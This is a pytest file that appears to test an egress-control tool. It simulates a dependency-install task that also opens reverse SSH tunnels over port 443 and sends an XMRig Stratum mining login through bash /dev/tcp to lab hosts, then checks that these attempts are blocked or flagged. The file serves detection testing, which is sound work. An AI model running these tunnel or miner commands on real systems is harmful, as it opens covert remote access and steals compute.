"""The seed incident, live: a task declared to "install Python dependencies from the package
index" runs pip from the lab's index, then tries `ssh -N -R` to a foreign server over 443 and
to an allowed host's 443, and sends a Stratum login to an allowed port. The lab's servers
record every byte they receive. In enforce mode pip succeeds and nothing else reaches a
server; in audit mode everything passes and is flagged; either way `egress audit --task`
shows each attempt with its process and finding."""

import json
import os
import subprocess

import pytest

from tests.lab.test_egress_cases import wheel
from tests.lab.test_run import EGRESS

PURPOSE = '''version = 1
purpose = "Install Python dependencies from the package index"
task = "deps-install"

[[allow]]
host = "pypi.lab"

[[allow]]
host = "files.lab"
'''

LOGIN = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Ab","pass":"x",'
         '"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"}}')

SSH = ("ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no "
       "-o UserKnownHostsFile=/dev/null -N -R 9000:127.0.0.1:8080 -p 443")


def incident(lab, mode: str):
    www = lab.dir / "www"
    wheel(www)
    lab.start_dns({"pypi.lab": "203.0.113.10", "files.lab": "203.0.113.30",
                   "relay.lab": "198.51.100.7"})
    # the task's user reads the index's CA: a copy outside the test's private folder
    ca = lab.shared_dir() / "index-ca.crt"
    ca.write_bytes(lab.start_https("pypi.lab", "203.0.113.10", root=www).read_bytes())
    os.chmod(ca, 0o644)
    received = {"files.lab:443": lab.start_listener("203.0.113.30", 443),
                "relay.lab:443": lab.start_listener("198.51.100.7", 443)}
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    script = (
        "cd /tmp; python3 -m pip download --isolated --disable-pip-version-check --no-deps "
        f"--index-url https://pypi.lab/simple/ --cert {ca} --trusted-host pypi.lab "
        "-d /tmp/got labpkg "
        "2>&1 | tail -3; ls /tmp/got; "
        f"timeout 5 {SSH} tunnel@198.51.100.7; timeout 5 {SSH} tunnel@files.lab; "
        f"timeout 3 bash -c 'exec 3<>/dev/tcp/files.lab/443; echo {json.dumps(LOGIN)} >&3; "
        "sleep 1; true'; true")
    done = lab.host(EGRESS, "run", "--task", "deps-install", "--purpose", purpose,
                    "--mode", mode, "--db", lab.dir / "egress.db", "--", "sh", "-c", script,
                    timeout=120, check=False)
    audit = subprocess.run([EGRESS, "audit", "--task", "deps-install", "--json", "--db",
                            str(lab.dir / "egress.db")], capture_output=True, text=True)
    records = [json.loads(line) for line in audit.stdout.splitlines()]
    flows = [r for r in records if r.get("kind") == "flow"]
    return done, received, flows


def attempt(flows, dst, app=None):
    found = [f for f in flows if f["dst"] == dst and f["dport"] == 443
             and (app is None or f["app"] == app)]
    assert found, [(f["dst"], f["dport"], f["app"]) for f in flows]
    return found[0]


def ids(flow):
    return {f["id"] for f in flow["findings"] if not f.get("waived")}


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_the_incident_live(lab, mode):
    done, received, flows = incident(lab, mode)
    assert done.returncode == 0, done.stderr
    assert "labpkg-1.0-py3-none-any.whl" in done.stdout       # pip succeeded
    index = [f for f in flows if f["dst"] == "203.0.113.10"]
    assert index and all(f["verdict"] == "allow" for f in index)

    relay = attempt(flows, "198.51.100.7")
    tunnel = attempt(flows, "203.0.113.30", "ssh")
    miner = attempt(flows, "203.0.113.30", "stratum")
    assert "undeclared-destination" in ids(relay)
    # its process asked for remote forwarding: found at its first packet (in enforce mode
    # that blocks it there, and nothing later is judged); audit goes on to the protocol
    assert "reverse-ssh-tunnel" in ids(tunnel)
    if mode == "audit":
        assert ids(tunnel) & {"protocol-mismatch", "ssh-egress"}
    assert "mining-stratum" in ids(miner)
    for flow in (relay, tunnel):
        assert flow["process"]["exe"] == "/usr/bin/ssh", flow["process"]
        assert "-R 9000:127.0.0.1:8080" in flow["process"]["cmdline"]
    assert miner["process"]["exe"].endswith("bash")

    assert {f["action"] for f in index} == {"passed"}
    if mode == "enforce":
        assert {f["verdict"] for f in (relay, tunnel, miner)} == {"block"}
        assert {f["action"] for f in (relay, tunnel, miner)} == {"rejected"}
        assert all(path.read_bytes() == b"" for path in received.values())
    else:
        assert {f["verdict"] for f in (relay, tunnel, miner)} == {"flag"}
        assert received["relay.lab:443"].read_bytes().startswith(b"SSH-2.0-")
        got = received["files.lab:443"].read_bytes()
        assert b"SSH-2.0-" in got and b'"method":"login"' in got
